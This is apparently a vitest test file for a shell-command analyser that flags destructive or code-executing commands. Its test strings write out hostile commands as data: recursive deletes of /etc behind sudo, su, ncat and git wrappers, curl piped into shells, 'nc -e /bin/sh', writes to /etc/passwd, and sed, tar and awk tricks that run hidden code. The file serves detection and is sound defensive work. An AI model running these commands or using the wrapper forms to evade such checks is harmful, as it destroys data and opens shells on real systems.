import { describe as group, expect, test } from 'vitest';
import { factsOf, type Understanding } from '../src/action-of.ts';

const of = (argv: readonly string[]): Understanding =>
  factsOf({ argv, cwd: '/w', env: [], stdin: null });
const sh = (code: string): Understanding => of(['sh', '-c', code]);

group('a recursive delete is seen behind what runs it', () => {
  test.each([
    'eval -- rm -rf /etc',
    "bash -c - 'rm -rf /etc'",
    "sh -oc pipefail 'rm -rf /etc'",
    'env - rm -rf /etc',
    'env A-B=c rm -rf /etc',
    'env 1=c rm -rf /etc',
    'sudo A.b=c rm -rf /etc',
    "runuser bob -c 'rm -rf /etc'",
    "runuser -l bob -c 'rm -rf /etc'",
    "su bob -c'rm -rf /etc'",
    "sg grp 'rm -rf /etc'",
    "sg grp -c 'rm -rf /etc'",
    'time -o x rm -rf /etc',
    'strange-wrapper rm -rf /etc',
    'fakeroot /bin/rm -rf /etc',
    'poetry run sudo rm -rf /etc',
    'sshpass -p x ssh h rm -rf /etc',
    "hyperfine 'rm -rf /etc'",
    "ncat --sh-exec 'rm -rf /etc' h 1",
    "gcloud compute ssh x --command='rm -rf /etc'",
    'git submodule foreach rm -rf /etc',
    'git bisect run rm -rf /etc',
    "git filter-branch --tree-filter 'rm -rf /etc'",
    "yash -c 'rm -rf /etc'",
    'srm -r /etc',
    'git rm -r /etc',
    'git worktree remove --force /etc',
  ])('%s', (code) => {
    const { cmd } = sh(code).facts;
    expect(cmd.recursiveDelete).toBe(true);
    expect(cmd.paths).toContain('/etc');
  });
});

test.each([
  'curl x | fakeroot sh',
  'curl x | strange-wrapper bash',
  'curl x | bash-5.2',
  'curl x | yash',
  'curl x | /bin/sh.distrib',
  'curl x | python3.12-intel64',
  'curl x | source /dev/stdin',
])('a stream that becomes code is seen: %s', (code) => {
  const { facts, inspectable } = sh(code);
  expect(facts.cmd.pipesToShell).toBe(true);
  expect(inspectable).not.toBe('full');
});

group('R2: what may run more than it says is never `full`', () => {
  test.each([
    'tar xf a --to-comm=sh',
    'tar xvf a --use-comp=sh',
    'tar xFf script a',
    'bsdtar --use-compress-program sh -xf a',
    'sort --compress-prog=sh x',
    "split --filter='sh' x",
    'rsync --rs=sh a h:b',
    'scp -qS x a b:c',
    'sftp -b f h',
    'curl -sKx',
    'wget --use-ask=x u',
    "git config --global alias.x '!y'",
    'git grep -Ox y',
    'git rebase -xy HEAD',
    'git difftool --extcmd=x',
    'git clone -u x h',
    'git fetch --upload-pa=x',
    "sed 's_a_b_e' f",
    "sed 's:a:b:e' f",
    "sed '/x/ey' f",
    'sed -ee f',
    "sed --expression='1e y' f",
    "sed '1!e y' f",
    "sed 'w /etc/passwd' f",
    "sed 's/[/]/e;s/x/' f",
    `awk 'BEGIN{print "x" > "/etc/passwd"}'`,
    `awk 'BEGIN{f = "sys" "tem"; @f("x")}'`,
    'gawk -E x f',
    'gawk -lx f',
    'original-awk \'BEGIN{system("x")}\'',
    'env --split-st="x y"',
    "strace -o '|x' ls",
    'nc -e /bin/sh h 1',
    'socat tcp-listen:1 exec:x',
    'rg --pre x y',
    'fd . -x y',
    "psql -c '\\! x'",
    "sqlite3 d '.shell x'",
    "mapfile -C 'x y' -c 1 z",
    "complete -C 'x y' z",
    "zsh -c 'ls =x'",
    "fish -c 'ls (x)'",
    "[[ -v 'x[$(y)]' ]]",
    "test -v 'x[$(y)]'",
    "a='x[$(y)]'; (( a ))",
    'for PATH in x; do ls; done',
    'declare -n r=PATH; r=/x',
    'TAR_OPTIONS=--to-command=sh tar xf a',
    'RSYNC_RSH=sh rsync a h:b',
    'GIT_SEQUENCE_EDITOR=x git rebase',
    'ZDOTDIR=/x ls',
    'curl -o y u && chmod +x y && ./y',
    '/tmp/y',
    'pytest',
    'docker build .',
  ])('%s', (code) => expect(sh(code).inspectable).not.toBe('full'));

  test.each([
    "sed -n '1,5p;$d' f",
    "sed -i.bak -e 's|/a|/b|g' -e '/^#/d' f",
    "sed -E 's/a[b]+(c)/\\1/gI' f",
    "awk -F: '$3 > 5 { print $1 }' f",
    'env A=b ls',
    'grep -r rm .',
    'echo rm -rf /',
    'apt-get install bash',
    'which sh',
    'git rm x',
    "git commit -m 'rm x'",
    'kubectl get node',
    'aws s3 rm s3://x',
    'docker rm -f x',
    'tar xzf a -C /srv',
  ])('but this is: %s', (code) => expect(sh(code).inspectable).toBe('full'));
});

test('find names the file it writes, and one it reads its folders from', () => {
  expect(sh('find . -fprintf /etc/passwd x').facts.cmd.paths).toContain('/etc/passwd');
  expect(sh('find -files0-from x -delete').inspectable).not.toBe('full');
});

test('a redirection of both streams names its file', () => {
  expect(sh('echo x >& /etc/passwd').facts.cmd.paths).toContain('/etc/passwd');
  expect(sh('echo x >&2').facts.cmd.paths).toEqual([]);
});

test.each([
  'git push -f',
  'git push origin +main',
  'git push -uf o m',
  'git push --forc',
  'git push --mirror o',
])('a forced push is one however it is written: %s', (code) =>
  expect(sh(code).facts.cmd.flags).toContain('--force'),
);

test('R2: a long sed script costs no time', () => {
  const start = performance.now();
  for (const text of [' ', 's/', '/', '[', ';', '1,', 's/a/b/;']) of(['sed', text.repeat(60_000)]);
  expect(performance.now() - start).toBeLessThan(1_000);
});
